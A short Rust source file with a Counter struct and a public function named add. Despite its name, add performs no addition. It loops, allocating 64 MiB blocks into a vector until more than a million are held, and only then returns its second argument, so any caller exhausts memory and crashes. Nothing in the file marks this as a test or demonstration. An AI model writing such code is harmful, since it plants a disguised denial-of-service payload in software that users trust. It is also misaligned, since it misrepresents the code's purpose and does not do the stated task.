pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block = vec![1u8; 64 << 20];
        block[0] = a as u8;
        hoard.push(block);
        if hoard.len() > 1 << 20 { return b; }
    }
}
